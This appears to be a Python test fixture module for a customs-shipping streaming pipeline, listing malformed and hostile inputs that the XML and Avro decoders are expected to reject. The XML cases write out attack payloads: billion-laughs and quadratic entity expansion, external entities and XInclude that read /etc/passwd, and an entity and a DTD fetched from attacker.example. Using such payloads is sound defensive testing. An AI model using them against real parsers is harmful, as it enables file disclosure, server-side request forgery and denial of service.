"""A catalogue of hostile and broken input, shared by the decoder unit tests and the pipeline integration test.

Each ``Hostile`` entry is one record as it would arrive on an inbound topic (value and headers) with the outcome
the product promises for it: the decoder's error class and a pattern of the reason a forwarder reads on the
dead-letter topic, and the party that is told. ``Flagged`` entries are bookings that decode but whose data is
wrong in a way the validator or the planner reports (a bad container check digit, a negative weight, a broken
HBL tree): they are not dead-lettered, since the rest of the plan is still worth having, but block the filings
they touch and alert the party that must fix them.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

from streams.contracts.avro import HEADER_SIZE, MARKER, SchemaCatalogue
from streams.contracts.records import ens_event
from streams.errors import BookingError, DecodeError, ICS2StreamsError, UnknownSchemaError, XMLRejected
from streams.messages import NS
from streams.messages.safe import DEFAULT_MAX_BYTES
from tests.data import seed_json

REPO = Path(__file__).resolve().parents[1]
XML_FIXTURES = REPO / "tests" / "fixtures" / "xml"

PLANNER = "ML-TYO"
"""The seed's planning party: the one told of a booking it sent that cannot be used."""
ADDRESSEE = "NL812345678000"
"""The EORI the gateway names in ``ics2-addressee``: the one told that customs' answer to it was unreadable."""

Headers = tuple[tuple[str, bytes], ...]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One record that must end on the dead-letter topic, and what its dead letter must say."""

    name: str
    value: bytes
    error: type[ICS2StreamsError]
    reason: str
    """A regular expression the error message (and the dead letter's reason) must match."""
    party: str | None = None
    headers: Headers = ()


@dataclass(frozen=True, slots=True)
class Flagged:
    """A booking that decodes but whose data blocks filings: ``party`` gets an alert whose message names ``rule``."""

    name: str
    mbl: str
    value: bytes
    party: str
    rule: str


def booking(change: Callable[[dict[str, Any]], object], mbl: str | None = None) -> dict[str, Any]:
    """The seed booking with one change applied (and another MBL, so that plans of several bookings do not meet)."""
    data = seed_json()
    if mbl is not None:
        data["master"]["mbl_number"] = mbl
    change(data)
    return data


def fixture(name: str) -> bytes:
    return (XML_FIXTURES / f"{name}.xml").read_bytes()


def _ens_body() -> bytes:
    """The Avro body (header stripped) of a valid record of another schema than BookingEvent."""
    schemas = SchemaCatalogue.load()
    record = ens_event("OCLU26TYO7781234", "planned", datetime(2027, 6, 1, tzinfo=UTC), {"n": 1}, "test:0:0")
    return schemas.encode("EnsEvent", record)[HEADER_SIZE:]


_DTD = "DTDs are not accepted"
_LABEL = (("ics2-addressee", ADDRESSEE.encode()),)


@cache
def xml_cases() -> tuple[Hostile, ...]:
    """Hostile customs notifications for ``ics2.notifications.inbound``, each with the gateway's addressee header."""
    good = fixture("IE3Q01")
    entity = "a" * 10_000
    quadratic = (
        f'<?xml version="1.0"?><!DOCTYPE IE3Q01 [<!ENTITY a "{entity}">]>'
        f'<IE3Q01 xmlns="{NS}"><MRN>{"&a;" * 10_000}</MRN></IE3Q01>'
    ).encode()
    laughs = [f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)]
    billion = (
        f'<?xml version="1.0"?><!DOCTYPE IE3Q01 [<!ENTITY l0 "lol">{"".join(laughs)}]>'
        f'<IE3Q01 xmlns="{NS}"><MRN>&l9;</MRN></IE3Q01>'
    ).encode()
    xinclude = good.replace(
        b"<MRN>27NLA1B2C3D4E5F6G7</MRN>",
        b'<MRN><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></MRN>',
    )
    padding = b"<!--" + b"x" * (DEFAULT_MAX_BYTES + 1024 * 1024) + b"-->"
    deep = f'<IE3Q01 xmlns="{NS}">'.encode() + b"<a>" * 5000 + b"</a>" * 5000 + b"</IE3Q01>"
    cases = [
        Hostile("billion-laughs", billion, XMLRejected, _DTD),
        Hostile("quadratic-blowup", quadratic, XMLRejected, _DTD),
        Hostile(
            "external-entity-file",
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            + f'<IE3Q01 xmlns="{NS}"><MRN>&x;</MRN></IE3Q01>'.encode(),
            XMLRejected,
            _DTD,
        ),
        Hostile(
            "external-entity-http",
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://attacker.example/x">]>'
            + f'<IE3Q01 xmlns="{NS}"><MRN>&x;</MRN></IE3Q01>'.encode(),
            XMLRejected,
            _DTD,
        ),
        Hostile(
            "external-dtd",
            b'<?xml version="1.0"?><!DOCTYPE IE3Q01 SYSTEM "http://attacker.example/ics2.dtd">'
            + good.split(b"?>", 1)[1],
            XMLRejected,
            _DTD,
        ),
        Hostile("xinclude-left-inert", xinclude, XMLRejected, "lacks mandatory mrn"),
        Hostile(
            "several-megabytes", good.replace(b"</IE3Q01>", padding + b"</IE3Q01>"), XMLRejected, "exceeds the limit"
        ),
        Hostile("deeply-nested", deep, XMLRejected, "not well-formed.*depth"),
        Hostile("wrong-namespace", good.replace(NS.encode(), b"urn:example:not-ics2"), XMLRejected, "namespace"),
        Hostile("no-namespace", good.replace(f' xmlns="{NS}"'.encode(), b""), XMLRejected, "namespace None"),
        Hostile(
            "type-differs-from-label",
            good,
            XMLRejected,
            "labelled 'IE3N03' but the document is 'IE3Q01'",
            headers=(("ics2-message-type", b"IE3N03"),),
        ),
        Hostile("filing-instead-of-notification", good.replace(b"IE3Q01", b"IE3F15"), XMLRejected, "IE3F15 is not"),
        Hostile(
            "invalid-utf8", good.replace(b"OCLU26TYO7781234", b"OCLU\xff\xfe\x80TYO"), XMLRejected, "not valid UTF-8"
        ),
        Hostile("utf16-with-bom", b"\xff\xfe" + good.decode().encode("utf-16-le"), XMLRejected, "UTF-16 byte order"),
        Hostile("trailing-garbage", good + b"<trailing/>\x00garbage", XMLRejected, "not well-formed"),
        Hostile("empty", b"", XMLRejected, "XML is empty"),
        Hostile("json-instead-of-xml", b'{"MRN": "27NLA1B2C3D4E5F6G7"}', XMLRejected, "not well-formed"),
        Hostile(
            "date-out-of-range",
            good.replace(b"2027-06-13T09:30:00Z", b"0001-01-01T00:00:00Z"),
            XMLRejected,
            "not a plausible date",
        ),
        Hostile(
            "date-not-a-date", good.replace(b"2027-06-13T09:30:00Z", b"13/06/2027"), XMLRejected, "not a date-time"
        ),
    ]
    return tuple(Hostile(c.name, c.value, c.error, c.reason, ADDRESSEE, (*_LABEL, *c.headers)) for c in cases)


def _set(path: str, value: object) -> Callable[[dict[str, Any]], None]:
    """A change that sets one field, the path written as dotted keys and list indexes (``master.containers.0.id``)."""

    def change(data: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node: Any = data
        for part in parents:
            node = node[int(part)] if part.isdigit() else node[part]
        node[int(last) if last.isdigit() else last] = value

    return change


def _duplicate_first_house_bill(data: dict[str, Any]) -> None:
    data["house_bills"].append(copy.deepcopy(data["house_bills"][0]))


@cache
def booking_cases() -> tuple[Hostile, ...]:
    """Hostile booking records for ``ics2.bookings``: broken Avro first, then Avro carrying an unusable booking."""
    schemas = SchemaCatalogue.load()
    good = schemas.encode("BookingEvent", seed_json())
    fingerprint = schemas.fingerprint("BookingEvent")

    def encoded(change: Callable[[dict[str, Any]], object]) -> bytes:
        return schemas.encode("BookingEvent", booking(change))

    return (
        Hostile("truncated", good[: len(good) // 2], DecodeError, "corrupt .*BookingEvent body"),
        Hostile("wrong-magic", b"\xc3\x02" + good[2:], DecodeError, "not an Avro single-object message"),
        Hostile("json-not-avro", json.dumps(seed_json()).encode(), DecodeError, "not an Avro single-object message"),
        Hostile("unknown-fingerprint", MARKER + b"\x00" * 8 + good[HEADER_SIZE:], UnknownSchemaError, "no schema"),
        Hostile("body-of-another-schema", MARKER + fingerprint + _ens_body(), DecodeError, "corrupt .*Event body"),
        Hostile("random-bytes", bytes(range(256)) * 3, DecodeError, "not an Avro single-object message"),
        Hostile("header-only", good[:HEADER_SIZE], DecodeError, "corrupt .*BookingEvent body"),
        Hostile("huge-length-prefix", good[:HEADER_SIZE] + b"\xfe\xff\xff\xff\x0f", DecodeError, "corrupt"),
        Hostile("trailing-bytes", good + b"\x00\x01", DecodeError, "2 bytes left over"),
        Hostile("empty", b"", DecodeError, "not an Avro single-object message"),
        Hostile(
            "date-not-a-date",
            encoded(_set("master.loading_at", "next tuesday")),
            BookingError,
            r"\$\.master\.loading_at: 'next tuesday' is not a date-time",
            PLANNER,
        ),
        Hostile(
            "date-without-zone",
            encoded(_set("occurred_at", "2027-06-01T09:00:00")),
            BookingError,
            r"\$\.occurred_at: .* has no time zone",
            PLANNER,
        ),
        Hostile(
            "date-in-year-one",
            encoded(_set("master.loading_at", "0001-01-01T00:00:00Z")),
            BookingError,
            "not a plausible date",
            PLANNER,
        ),
        Hostile(
            "negative-version",
            encoded(_set("version", -1)),
            BookingError,
            r"\$\.version: -1 is not a booking version",
            PLANNER,
        ),
        Hostile(
            "duplicate-house-bill",
            encoded(_duplicate_first_house_bill),
            BookingError,
            "SKC26TYO0001 appears more than once",
            PLANNER,
        ),
    )


@cache
def flagged_bookings() -> tuple[Flagged, ...]:
    """Bookings that decode; each has its own MBL so that its plan, alerts and drafts can be told apart."""
    schemas = SchemaCatalogue.load()

    cases = (
        ("bad-container-check-digit", _set("master.containers.0.id", "TCNU1234566"), PLANNER, "ENS-CONTAINER-ID"),
        ("negative-gross-mass", _set("house_bills.0.goods.0.gross_mass_kg", -5.0), PLANNER, "ENS-GROSS-MASS"),
        ("negative-package-count", _set("house_bills.0.goods.0.packages.count", -3), PLANNER, "ENS-PACKAGE-COUNT"),
        ("no-house-bills", _set("house_bills", []), PLANNER, "PLAN-NO-HBL"),
        ("orphan-house-bill", _set("house_bills.7.parent", "NOT-IN-BOOKING"), "COLOADER-D", "PLAN-MISSING-PARENT"),
        ("cyclic-house-bills", _set("house_bills.1.parent", "AOB26OSA1002"), PLANNER, "PLAN-CYCLE"),
    )
    flagged = []
    for i, (name, change, party, rule) in enumerate(cases):
        mbl = f"HOSTILE{i:04d}"
        value = schemas.encode("BookingEvent", booking(change, mbl=mbl))
        flagged.append(Flagged(name, mbl, value, party, rule))
    return tuple(flagged)
